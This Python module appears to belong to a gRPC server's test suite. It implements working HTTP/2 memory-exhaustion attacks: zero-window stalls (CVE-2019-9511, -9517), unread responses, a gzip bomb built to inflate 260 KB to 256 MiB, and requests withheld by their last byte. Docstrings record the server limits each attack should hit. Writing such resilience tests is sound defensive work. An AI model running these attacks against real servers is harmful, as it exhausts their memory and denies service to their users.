"""Attacks that make a server hold something: answers nobody reads, requests nobody finishes."""

import functools
import struct
import zlib

from Support.attacks.attacker import Attacker, Seen
from Support.http2 import (
    DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PREFACE, WIDE_OPEN, call_headers,
    frame, headers, message, settings)
from Support.interop.contract import SERVICE, messages

STREAMS = 100
"""As many as a partner may open."""
STALL_SECONDS = 6
"""Longer than the time-outs that a test sets."""
ANSWER_BYTES = 1 << 20
ANSWERS_PER_STREAM = 50
BOMB_BYTES = 256 << 20
"""What a gzip bomb inflates to. DEFLATE makes at most 1,030 bytes of one, so it has 260 KB."""
MESSAGE_BYTES = 4 << 20
"""The longest message that a server takes."""


def _unary() -> tuple:
    return SERVICE + "UnaryCall", messages.SimpleRequest(response_size=ANSWER_BYTES)


def _stream() -> tuple:
    return SERVICE + "StreamingOutputCall", messages.StreamingOutputCallRequest(
        response_parameters=[messages.ResponseParameters(size=ANSWER_BYTES)] * ANSWERS_PER_STREAM)


def _asking(port: int, opening: bytes, call: tuple, seconds: float, reads: bool) -> Seen:
    """Makes the call on every stream and leaves the rest to the server."""
    path, request = call
    block = headers(call_headers(path))
    body = message(request.SerializeToString())

    def chunks():
        yield opening
        for stream in range(1, 2 * STREAMS, 2):
            yield (frame(HEADERS, END_HEADERS, stream, block)
                   + frame(DATA, END_STREAM, stream, body))

    with Attacker(port) as attacker:
        return attacker.wait(chunks(), seconds, reads=reads)


def window_stall(port: int, path: str, seconds: float = STALL_SECONDS) -> Seen:
    """Asks for 100 answers of 1 MiB and allows not one byte (CVE-2019-9511, -9517).

    Held is at most what may wait on a connection; ended by the time-out of a stalled write, 30 s.
    """
    return _asking(
        port, PREFACE + settings([(INITIAL_WINDOW_SIZE, 0)]), _unary(), seconds, True)


def window_stall_of_streams(port: int, path: str, seconds: float = STALL_SECONDS) -> Seen:
    """The same with streams of 50 answers. Their writers must suspend."""
    return _asking(
        port, PREFACE + settings([(INITIAL_WINDOW_SIZE, 0)]), _stream(), seconds, True)


def connection_window_stall(port: int, path: str, seconds: float = STALL_SECONDS) -> Seen:
    """Each stream may send what it likes, the connection no more than its first 64 KiB."""
    opening = PREFACE + settings([(INITIAL_WINDOW_SIZE, 1 << 30)])
    return _asking(port, opening, _stream(), seconds, True)


def stalled_reader(port: int, path: str, seconds: float = STALL_SECONDS) -> Seen:
    """100 streams of 50 MiB each, every window open, and nothing is read from the socket.

    Held is at most what may wait on a connection; ended by the time-out of a stalled write, 30 s.
    """
    return _asking(port, WIDE_OPEN, _stream(), seconds, False)


def stalled_reader_of_answers(port: int, path: str, seconds: float = STALL_SECONDS) -> Seen:
    """The same with 100 unary answers of 1 MiB."""
    return _asking(port, WIDE_OPEN, _unary(), seconds, False)


def gzip_bomb(port: int, path: str) -> Seen:
    """100 requests of 260 KB that inflate to 256 MiB each.

    Stopped by the limit of a message, 4 MiB after decompression: RESOURCE_EXHAUSTED for each call.
    """
    bomb = _bomb()
    block = headers(call_headers(path, ("grpc-encoding", "gzip")))

    def chunks(attacker):
        yield WIDE_OPEN
        for stream in range(1, 2 * STREAMS, 2):
            yield frame(HEADERS, END_HEADERS, stream, block)
            yield from attacker.upload(stream, bomb)

    with Attacker(port) as attacker:
        return attacker.pump(
            chunks(attacker), until=lambda seen: seen.ended_streams >= STREAMS)


def unfinished_requests(port: int, path: str, seconds: float = STALL_SECONDS) -> Seen:
    """100 requests of 4 MiB, each sent but for its last byte.

    Held is at most what a connection may hold of requests; the others are refused, and what is
    left is ended by the time-out of a request, 45 s.
    """
    block = headers(call_headers(path))
    unfinished = message(bytes(MESSAGE_BYTES - 64))[:-1]

    def chunks(attacker):
        yield WIDE_OPEN
        uploads = []
        for stream in range(1, 2 * STREAMS, 2):
            yield frame(HEADERS, END_HEADERS, stream, block)
            uploads.append(attacker.upload(stream, unfinished, end=0))
        while uploads:
            for upload in list(uploads):
                part = next(upload, None)
                if part is None:
                    uploads.remove(upload)
                elif part:
                    yield part
            yield b""

    with Attacker(port) as attacker:
        return attacker.wait(
            chunks(attacker), seconds, until=lambda seen: seen.ended_streams >= STREAMS)


@functools.cache
def _bomb() -> bytes:
    """A message of zeros. Its parts compress alike, so one of them is repeated."""
    part = bytes(4 << 20)
    deflate = zlib.compressobj(9, wbits=-15)
    block = deflate.compress(part) + deflate.flush(zlib.Z_FULL_FLUSH)
    count, checksum = BOMB_BYTES // len(part), 0
    for _ in range(count):
        checksum = zlib.crc32(part, checksum)
    head = b"\x1f\x8b\x08" + bytes(6) + b"\xff"
    end = deflate.flush() + struct.pack("<II", checksum, BOMB_BYTES)
    return message(head + block * count + end, compressed=1)


MEMORY_ATTACKS = {each.__name__: each for each in (
    window_stall, window_stall_of_streams, connection_window_stall, stalled_reader,
    stalled_reader_of_answers, gzip_bomb, unfinished_requests)}
